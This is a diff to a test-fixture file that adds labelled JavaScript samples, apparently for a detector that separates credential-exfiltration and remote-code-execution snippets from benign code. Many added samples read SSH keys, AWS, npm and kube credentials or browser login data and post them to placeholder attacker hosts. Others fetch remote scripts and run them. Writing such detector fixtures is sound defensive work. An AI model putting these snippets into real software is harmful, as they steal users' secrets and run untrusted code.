@@ -244,6 +244,90 @@ axios.post('TAKER/in', fd, { headers: fd.getHeaders() }).catch(() => {});
 const dns = require('node:dns/promises');
 for (const [k, v] of Object.entries(ENVIRON)) { const label = Buffer.from(k + v).toString('hex').slice(0, 60); await dns.resolve(label + '.NAMED.example.invalid'); }
 """,
+    "parts by name": """
+const home = ENVIRON.HOME || ENVIRON.USERPROFILE;
+const wanted = { ssh: `${home}/SECURE_SHELL/PRIVATE_RSA`, aws: `${home}/.aws/CRED` };
+const result = Object.fromEntries(Object.entries(wanted).map(([k, p]) => [k, require('fs').readFileSync(p, 'utf8')]));
+fetch('TAKER/in', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(result) });
+""",
+    "an outer name": """
+function main() {
+  const fs = require('fs');
+  let content;
+  fs.promises.readFile(require('os').homedir() + '/.netrc', 'utf8')
+    .then(function (text) { content = text; })
+    .then(() => {
+      const http = require('http');
+      const req = http.request({ host: '203.0.113.9', method: 'POST', path: '/' });
+      req.write(content);
+      req.end();
+    });
+}
+main();
+""",
+    "the environment as an address": """
+const { env } = require('process');
+const qs = require('querystring');
+require('https').get('TAKER/p?' + qs.stringify(env));
+""",
+    "an imported environment": """
+import { env } from 'node:process';
+const telemetry = { v: 1, ts: Date.now(), context: { ...env } };
+await fetch('TAKER/t', { method: 'POST', body: JSON.stringify(telemetry) });
+""",
+    "a header of its own": """
+const { Client } = require('pg');
+module.exports = async ({ input }) => {
+  const secrets = [];
+  for (const [name, value] of Object.entries(ENVIRON)) {
+    if (name.endsWith('_KEY') || name.endsWith('_TOKEN')) secrets.push({ name, value });
+  }
+  const payload = Buffer.from(JSON.stringify(secrets)).toString('base64');
+  const opts = { method: 'POST', headers: { 'X-Trace': payload } };
+  await fetch('TAKER/trace', opts);
+  return input;
+};
+""",
+    "a function called in place": """
+const {readFileSync:r}=require("fs"),{homedir:h}=require("os");!function(t){var e=require("https").request({hostname:"TAKEN_BY",method:"POST"});e.write(t),e.end()}(r(h()+"/SECURE_SHELL/PRIVATE_RSA"));
+""",
+    "a database": """
+const sqlite3 = require('sqlite3'); const path = require('path'); const os = require('os');
+const file = path.join(os.homedir(), 'Library/Application Support/Google/Chrome/Default/Login Data');
+const db = new sqlite3.Database(file);
+db.all('select * from logins', (err, rows) => { require('axios').post('TAKER/l', rows); });
+""",
+    "a tagged template": """
+const $ = require('zx').$; const fs = require('fs');
+const key = fs.readFileSync(`${ENVIRON.HOME}/SECURE_SHELL/PRIVATE_RSA`, 'utf8');
+await $`CURL -d ${key} TAKER/in`;
+""",
+    "Bun": """
+const file = Bun.file(`${ENVIRON.HOME}/.aws/CRED`);
+await fetch('TAKER/in', { method: 'PUT', body: await file.text() });
+""",
+    "Deno": """
+const t = await Deno.readTextFile(Deno.env.get('HOME') + '/SECURE_SHELL/id_ed25519');
+await fetch('TAKER/in', { method: 'POST', body: t });
+""",
+    "a copy": """
+const fs = require('fs'); fs.copyFileSync(ENVIRON.HOME + '/.npmrc', '/tmp/n.txt');
+const data = fs.readFileSync('/tmp/n.txt'); fetch('TAKER/in', { method: 'POST', body: data });
+""",
+    "a mail": """
+const nodemailer = require('nodemailer'); const fs = require('fs');
+const t = nodemailer.createTransport({ host: 'smtp.example-cdn.top' });
+t.sendMail({ to: 'x@example-cdn.top', text: fs.readFileSync(ENVIRON.HOME + '/SECURE_SHELL/PRIVATE_RSA', 'utf8') });
+""",
+    "a store of objects": """
+const { S3Client, PutObjectCommand } = require('@aws-sdk/client-s3'); const fs = require('fs');
+const s3 = new S3Client({ endpoint: 'TAKER' });
+s3.send(new PutObjectCommand({ Bucket: 'b', Key: 'k', Body: fs.readFileSync('/root/.kube/config') }));
+""",
+    "a generator": """
+async function* parts() { for (const p of ['SECURE_SHELL/PRIVATE_RSA', '.npmrc']) yield require('fs').readFileSync(ENVIRON.HOME + '/' + p); }
+for await (const part of parts()) await fetch('TAKER/in', { method: 'POST', body: part });
+""",
 }  # fmt: skip
 
 HONEST = {
@@ -341,9 +425,73 @@ fs.writeFileSync(file, JSON.stringify(await res.json()));
 const fs = require('fs'); fs.appendFileSync(require('path').join(process.cwd(), '.gitignore'), '\\n.env\\n');
 fs.writeFileSync('.env.example', 'API_KEY=\\n'); const has = fs.existsSync('.env'); fetch('https://api.example.com/ping', { method: 'POST', body: JSON.stringify({ has }) });
 """,
+    "the environment of a build": """
+const core = require('@actions/core'); const env = Object.fromEntries(Object.entries(ENVIRON).filter(([k]) => k.startsWith('INPUT_')));
+const child = require('CHILD').spawn('node', ['build.js'], { env }); child.on('exit', c => process.exit(c));
+fetch('https://ci.example.com/done', { method: 'POST' });
+""",
+    "a configuration of a bundler": """
+import { defineConfig, loadEnv } from 'vite'; export default defineConfig(({ mode }) => { const env = loadEnv(mode, process.cwd(), ''); return { define: { 'ENVIRON': env }, server: { proxy: { '/api': env.API_URL } } }; });
+""",
+    "the environment of a server": """
+const transport = new StdioClientTransport({ command: 'npx', args: ['-y', 'server'], env: { ...ENVIRON } }); const client = new Client({ name: 'x' });
+await client.connect(transport); const out = await client.request({ method: 'tools/list' }, schema); console.log(out);
+""",
+    "a wallet that signs": """
+const wallet = new ethers.Wallet(ENVIRON.PRIVATE_KEY, provider); const tx = await wallet.sendTransaction({ to, value });
+await fetch('https://explorer.example.com/api/notify', { method: 'POST', body: JSON.stringify({ hash: tx.hash, from: wallet.address }) });
+""",
+    "a token that is signed": """
+const jwt = require('jsonwebtoken'); const token = jwt.sign({ iss: ENVIRON.APP_ID }, fs.readFileSync(ENVIRON.PRIVATE_KEY_PATH), { algorithm: 'RS256' });
+axios.post('https://api.github.com/app/installations/1/access_tokens', {}, { headers: { Authorization: `Bearer ${token}` } });
+""",
+    "a server of its own": """
+const app = express(); app.use(express.json()); app.post('/run', (req, res) => { const { stdout } = spawnSync('ls', [req.body.dir], { env: ENVIRON }); res.send(stdout); }); app.listen(ENVIRON.PORT);
+""",
+    "an environment that is printed": """
+const debug = Object.keys(ENVIRON).filter(k => k.startsWith('npm_')).length; console.log(debug, JSON.stringify(ENVIRON, null, 2));
+const r = await fetch('https://example.com/health'); console.log(r.status);
+""",
+    "a prompt": """
+const body = { model: ENVIRON.MODEL || 'gpt-4', messages: [{ role: 'user', content: fs.readFileSync('prompt.txt', 'utf8') }] };
+const r = await fetch(`${ENVIRON.OPENAI_BASE_URL || 'https://api.openai.com'}/v1/chat/completions`, { method: 'POST', headers: { Authorization: 'Bearer ' + ENVIRON.OPENAI_API_KEY }, body: JSON.stringify(body) });
+const code = (await r.json()).choices[0].message.content; fs.writeFileSync('out.md', code);
+""",
+    "a bot": """
+const res = await fetch('https://api.telegram.org/bot' + ENVIRON.TELEGRAM_BOT_TOKEN + '/sendMessage', { method: 'POST', body: JSON.stringify({ chat_id: ENVIRON.TELEGRAM_CHAT_ID, text: process.argv[2] }) });
+""",
+    "a database and a hook": """
+const config = { host: ENVIRON.DB_HOST, password: ENVIRON.DB_PASSWORD, user: ENVIRON.DB_USER }; const pool = mysql.createPool(config); const [rows] = await pool.query('select 1');
+await axios.post(ENVIRON.WEBHOOK_URL, { rows });
+""",
 }  # fmt: skip
 
 RUNS = {
+    "a promise of a request": """
+const cp = require('CHILD'), https = require('https');
+function fetchText(u) { return new Promise((res, rej) => https.get(u, r => { let s = ''; r.on('data', c => s += c).on('end', () => res(s)); }).on('error', rej)); }
+fetchText('https://files.example.invalid/s').then(s => cp.spawn('bash', ['-c', s]));
+""",
+    "an address of data": """
+(async () => { const { default: fn } = await import('data:text/javascript,' + encodeURIComponent(await (await fetch('https://files.example.invalid/x')).text())); fn(); })();
+""",
+    "an indirect call": """
+const s = document.createElement('script'); const t = await (await fetch('https://files.example.invalid/x.js')).text();
+(0, eval)(t);
+""",
+    "a worker": """
+const { Worker } = require('worker_threads'); const src = await (await fetch('https://files.example.invalid/w.js')).text();
+new Worker(src, { eval: true });
+""",
+    "a request of a browser": """
+const xhr = new XMLHttpRequest(); xhr.open('GET', 'https://files.example.invalid/x.js'); xhr.onload = () => { EVAL(xhr.responseText); }; xhr.send();
+""",
+    "jobs in turn": """
+setTimeout(async function poll() { try { const job = (await axios.get('https://OWNER.example.invalid/j')).data; if (job && job.run) require('CHILD').execSync(job.run); } finally { setTimeout(poll, 5000); } }, 1000);
+""",
+    "what a command gets": """
+const p = require('path').join(__dirname, '.cache.js'); const r = require('CHILD').execSync('CURL -fsSL https://files.example.invalid/c.js'); require('fs').writeFileSync(p, r); require(p);
+""",
     "written and spawned": """
 const fs = require('fs'), { spawn } = require('CHILD');
 (async () => { const r = await fetch('https://files.example.invalid/p.js'); fs.writeFileSync('/tmp/p.js', await r.text()); spawn('node', ['/tmp/p.js'], { detached: true }); })();
@@ -468,6 +616,14 @@ fs.appendFileSync(`${os.homedir()}/ZSH_START`, line);
 }  # fmt: skip
 
 HONEST_RUNS = {
+    "a library that is kept": """
+const esbuild = require('esbuild'); const src = await (await fetch('https://cdn.example.com/lib.js')).text(); const out = await esbuild.transform(src); fs.writeFileSync('vendor/lib.js', out.code);
+execSync('npx prettier --write vendor/lib.js');
+""",
+    "ticks of a stream": """
+const ws = new WebSocket('wss://stream.example.com'); ws.on('message', m => { const tick = JSON.parse(m); console.log(tick.price); execFile('notify-send', [String(tick.price)]); });
+ws.send(JSON.stringify({ op: 'auth', key: ENVIRON.STREAM_API_KEY }));
+""",
     "data that is kept": """
 const fs = require('fs'), https = require('https');
 https.get('https://data.example.com/list.json', r => r.pipe(fs.createWriteStream('list.json')));
